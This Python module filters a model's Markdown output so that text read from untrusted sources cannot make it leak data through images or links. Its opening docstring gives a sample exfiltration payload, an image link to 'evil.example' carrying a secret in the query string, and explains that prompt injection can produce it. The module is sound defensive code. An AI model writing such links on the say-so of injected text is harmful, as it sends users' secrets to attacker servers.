"""What a model writes after it has read untrusted text must not carry anything out.

A text can make a model write ``![](https://evil.example/?d=secret)``: whoever shows it asks that server for a picture,
and has told it the secret. So of the model's Markdown no picture is let through, no HTML but a few tags without
attributes, and an address only where the user wrote it or a search engine gave it; in place of any other stands the
name of its host in words. What was not understood is made harmless, not let through: ``](`` gets a space between, ``<``
before a letter is written ``&lt;``, which looks the same.

Code is text, which renderers do not link: addresses in it stay (``guarding.code`` says what is believed to be code).
Names of hosts and e-mail addresses in the text stay, too: they carry nothing until somebody does something with them.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from ventoux.conversations.guarding import syntax
from ventoux.conversations.guarding.addresses import MARK, Known
from ventoux.conversations.guarding.code import Code, run_of
from ventoux.conversations.guarding.syntax import Told

if TYPE_CHECKING:
    from collections.abc import Callable

_TRIGGER = re.compile(r"[\r\n`!\]<&/.$\\]|(?<![A-Za-z0-9])[hHfFwWmMxX]")
_LINE_END = re.compile(r"[\r\n]")
_TOKEN_END = re.compile(r"[ \t\n\r\v\f<]")
_WORD = re.compile(r"[^\s]*\Z")
_LONGEST_WORD = 300
_PIECE = 1024
"""Characters that are looked at as one, of a text that comes whole."""


class LinkGuard:
    """``known``: addresses that may stay. ``after``: what was told before, of a text that goes on. What comes of a text
    does not depend on how it is cut into pieces."""

    def __init__(self, known: frozenset[str], after: str = "") -> None:
        self._known = Known(known)
        self._code = Code()
        self._held = ""
        self._line_begins = self._line_blank = True
        self._word = ""
        """What stands before what is held, without a space between."""
        self._before = ""
        self._swallows = False
        self._told = ""
        """The end of what was let through."""
        self._resumes = False
        self._handlers: dict[str, Callable[[str, bool], Told | None]] = {
            "\n": self._newline,
            "\r": self._newline,
            "`": self._ticks,
            "/": self._slash,
            ".": self._dot,
            "<": self._angle,
            "&": self._ampersand,
            "!": self._bang,
            "]": self._bracket,
            "$": self._formula,
            "\\": self._formula,
        }

        # Else the end of a block of code would be taken for its beginning.
        self.feed(after)
        self.end()
        self._resumes = bool(after)

    def feed(self, text: str) -> str:
        """What can be told by now."""
        return "".join(self._run(text[at : at + _PIECE], final=False) for at in range(0, len(text), _PIECE))

    def end(self) -> str:
        """What was held back."""
        return self._run("", final=True)

    def _run(self, text: str, *, final: bool) -> str:
        text, at, out = self._held + text, 0, list[str]()
        while at < len(text):
            told = self._step(text[at:], final=final)
            if told is None:
                break
            self._read(text[at : at + told.consumed])
            out.append(self._apart(told))
            self._swallows = told.swallows
            self._code.html = self._code.html or told.tag
            at += told.consumed
        self._held = text[at:]
        return "".join(out)

    def _read(self, text: str) -> None:
        self._before = text[-1]
        word = _WORD.search(self._word + text)
        self._word = word.group()[-_LONGEST_WORD:] if word else ""
        self._line_blank = self._line_blank and not text.strip()

    def _apart(self, told: Told) -> str:
        """A mark must not become part of a link or a picture by what stands beside it."""
        text = told.text
        behind_mark = self._told == MARK and text[:1] in {"(", "[", ":"}
        # What was told before may end within what is handled as one.
        broken_off = self._resumes and self._told + text[:1] in {"](", "]:", "!["}
        if behind_mark or broken_off or (self._told in {"!", "]"} and told.marked):
            text = f" {text}"
        if text:
            self._resumes = False
            self._told = MARK if told.marked else text[-1]
        return text

    def _step(self, text: str, *, final: bool) -> Told | None:
        if self._swallows:
            end = _TOKEN_END.search(text)
            if end is None or end.start():
                return Told(end.start() if end else len(text), "", swallows=end is None)
        if self._line_begins:
            fence = self._code.line(text, final=final)
            if fence is None:
                return None
            self._line_begins = False
            if fence:
                return Told(fence, text[:fence])
        trigger = (_LINE_END if self._code.plain else _TRIGGER).search(text)
        plain = trigger.start() if trigger else len(text)
        return Told(plain, text[:plain]) if plain else self._trigger(text, final=final)

    def _trigger(self, text: str, *, final: bool) -> Told | None:
        if text[0] in "!]$\\" and len(text) == 1 and not final:
            return None
        return self._handlers.get(text[0], self._letter)(text, final)

    def _letter(self, text: str, final: bool) -> Told | None:
        if self._before.isascii() and self._before.isalnum():
            return Told(1, text[0])
        return syntax.address(text, self._word, self._known, final=final)

    def _slash(self, text: str, final: bool) -> Told | None:
        return syntax.slashes(text, self._before, self._word, self._known, final=final)

    def _dot(self, text: str, final: bool) -> Told | None:
        return syntax.host(text, self._word, self._known, final=final)

    def _angle(self, text: str, final: bool) -> Told | None:
        return syntax.angle(text, self._word, self._known, final=final)

    def _ampersand(self, text: str, final: bool) -> Told | None:
        return syntax.entity(text, final=final)

    def _bang(self, text: str, final: bool) -> Told:
        del final
        return Told(1, "! " if text.startswith("![") else "!")

    def _bracket(self, text: str, final: bool) -> Told | None:
        if text.startswith("]("):
            return syntax.link(text, self._word, self._known, final=final)
        return syntax.definition(text, self._known, final=final)

    def _formula(self, text: str, final: bool) -> Told:
        del final
        if text[0] == "$" or text.startswith(("\\(", "\\[")):
            self._code.formula(block=text.startswith("$$"))
        return Told(1, text[0])

    def _newline(self, text: str, final: bool) -> Told:
        del final
        if text[0] == "\r" or self._before != "\r":
            if self._line_blank:
                self._code.blank_line()
            self._line_begins = self._line_blank = True
        return Told(1, text[0])

    def _ticks(self, text: str, final: bool) -> Told | None:
        span = self._code.span(text, self._before, final=final)
        if span is None:
            return None
        end = span or run_of(text)
        return Told(end, text[:end])
